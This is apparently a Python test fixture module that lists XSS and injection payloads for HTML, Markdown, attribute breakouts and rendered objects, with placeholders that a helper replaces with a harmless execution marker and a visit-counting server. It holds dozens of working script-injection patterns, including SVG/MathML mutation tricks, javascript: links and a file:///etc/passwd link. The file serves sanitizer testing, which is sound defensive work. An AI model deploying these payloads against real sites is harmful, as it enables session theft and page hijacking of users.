"""Hostile texts for every field: markup and Markdown that would run a script or contact a server.

In each payload, ``RUN`` stands for a script that reports its execution, and ``THERE`` for the address of a server
that counts its visitors.
"""

from __future__ import annotations

MARKUP = (
    "<script>RUN</script>",
    "<ScRiPt src=THERE/a.js></sCrIpT>",
    "<script/x>RUN</script >",
    "</script><script>RUN</script>",
    "<<script>RUN//<</script>",
    '<script type="module">import "THERE/m.js"</script>',
    '<script type="importmap">{"imports":{"#core/state.js":"THERE/s.js"}}</script>',
    "<img src=x onerror=RUN>",
    "<img src=THERE/i.png>",
    '<img srcset="THERE/i.png 1x, THERE/j.png 2x">',
    "<img/src='x'/onerror=RUN>",
    "<image href=x onerror=RUN>",
    '<svg onload="RUN">',
    "<svg><script>RUN</script></svg>",
    '<svg><script href="THERE/a.js"></script></svg>',
    "<svg><image href=THERE/i.svg></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="RUN"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></foreignObject></svg>',
    "<svg><style><img src=x onerror=RUN></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<math href="javascript:RUN"><mi>x</mi></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">',
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src=THERE/f.html></iframe>",
    "<object data=THERE/o.swf></object><embed src=THERE/e.swf>",
    '<object data="data:text/html,<script>RUN</script>"></object>',
    "<link rel=stylesheet href=THERE/s.css>",
    "<link rel=prefetch href=THERE/p><link rel=dns-prefetch href=THERE>",
    "<style>@import 'THERE/s.css'; * {background: url(THERE/b.png)}</style>",
    '<p style="background-image: url(THERE/b.png); position: fixed; inset: 0">over everything</p>',
    '<meta http-equiv="refresh" content="0; url=THERE/r">',
    '<base href="THERE/">',
    "<body onload=RUN><body onpageshow=RUN>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>",
    '<form action="THERE/f"><button autofocus onfocus="RUN">log in again</button></form>',
    "<video autoplay onloadstart=RUN src=THERE/v.mp4><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<marquee onstart=RUN>x</marquee>",
    '<div style="animation: x 1s" onanimationstart=RUN></div><style>@keyframes x {}</style>',
    '<a href="javascript:RUN" autofocus>x</a>',
    '<a ping="THERE/ping" href="#/inbox" onclick="RUN">x</a>',
    "<template><script>RUN</script></template><noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<textarea></textarea><img src=x onerror=RUN></title><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>--><![CDATA[<img src=x onerror=RUN>]]>",
    '<xss contenteditable onfocus="RUN" tabindex=1 autofocus>x</xss>',
    '<form id="state"><input name="actions"></form><img name="localStorage"><a id="globalThis" href="THERE">x</a>',
    "&lt;img src=x onerror=RUN&gt; &#60;img src=x onerror=RUN&#62; %3Cimg%20src=x%20onerror=RUN%3E",
    "\x3cscr\u0000ipt>RUN</scr\u0000ipt> <img src=x\u000conerror=RUN> ＜script＞RUN＜/script＞",
)
BREAKING_OUT = (
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    '" autofocus onfocus="RUN" x="',
    "' onmouseover='RUN' style='position:fixed;inset:0",
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "THERE/x.png",
    "${RUN} {{RUN}} <%= RUN %> #{RUN} {RUN}",
    "`;RUN;//\\';RUN;//\";RUN;//",
    "\u202e\u2066gnp.exe\u2069 \u001b]8;;THERE\u0007link\u001b]8;;\u0007",
)
MARKDOWN = (
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN) [x](&#106;avascript:RUN) [x](java\tscript:RUN) [x](\u0001javascript:RUN)",
    "[x](vbscript:RUN) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](blob:THERE/x) [x](file:///etc/passwd)",
    '[x](<javascript:RUN> "title") [x]( javascript:RUN ) [x](//THERE/x "\\" onmouseover=\\"RUN")',
    "[x][1]\n\n[1]: javascript:RUN\n[2]: data:text/html,<script>RUN</script>\n[y][2]",
    "<javascript:RUN> <data:text/html,RUN> <THERE/auto>",
    "![x](THERE/i.png) ![x](//127.0.0.1:9/i.png) ![x][3]\n\n[3]: THERE/k.png",
    '![x](javascript:RUN) ![x](x"onerror="RUN) !["onerror="RUN](x)',
    '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>)',
    "![x](data:text/html,<script>RUN</script>)",
    '[![x](x "onerror=RUN")](javascript:RUN)',
    '```"><img src=x onerror=RUN>\ncode</code></pre><img src=x onerror=RUN>\n```',
    "`<img src=x onerror=RUN>` ``</code><img src=x onerror=RUN>``",
    "| <img src=x onerror=RUN> | [x](javascript:RUN) |\n|:--|--:|\n| <svg onload=RUN> | ![x](THERE/t.png) |",
    '- <img src=x onerror=RUN>\n> <svg onload=RUN>\n\n# <img src=x onerror=RUN> {#" onclick=RUN}',
    '```mermaid\ngraph TD; A-->B; click A "javascript:RUN"; B["<img src=x onerror=RUN>"]\n```',
    'www.example.org"onmouseover=RUN mia@example.org?x=<img src=x onerror=RUN>',
    "- [x] <input type=image src=THERE/i.png onerror=RUN>\n\n[^1]: <img src=x onerror=RUN>\n$\\href{javascript:RUN}{x}$",
)
OBJECTS: tuple[object, ...] = (
    {"type": "img", "props": {"src": "x", "onerror": "RUN"}, "__k": None, "constructor": None},
    {"text": "<img src=x onerror=RUN>", "dangerouslySetInnerHTML": {"__html": "<img src=x onerror=RUN>"}},
    {"text": {"__html": "<img src=x onerror=RUN>"}, "files": [{"name": {"__html": "x"}, "url": "javascript:RUN"}]},
    {"files": [{"name": "<img src=x onerror=RUN>", "media_type": "text/html", "url": "javascript:RUN", "size": -1}]},
    {"files": [{"name": "a.html", "media_type": "text/html", "data": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}]},
    {"images": ["THERE/i.png", "javascript:RUN", "data:text/html,<script>RUN</script>", {"url": "THERE/j.png"}]},
    {"images": [{"url": 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>', "name": "<b>"}]},
    {"<img src=x onerror=RUN>": ["<svg onload=RUN>", {"javascript:RUN": "[x](javascript:RUN)"}]},
)
TEXTS = MARKUP + BREAKING_OUT + MARKDOWN
RAN = "(globalThis.whatRan??=[]).push(NUMBER)"


def arm(payload: object, number: int, there: str) -> object:
    """Return the payload to send: its script reports ``number``, and its links point to ``there``."""
    if isinstance(payload, str):
        return payload.replace("RUN", RAN.replace("NUMBER", str(number))).replace("THERE", there)
    if isinstance(payload, dict):
        return {str(arm(name, number, there)): arm(it, number, there) for name, it in payload.items()}
    if isinstance(payload, (list, tuple)):
        return [arm(it, number, there) for it in payload]
    return payload
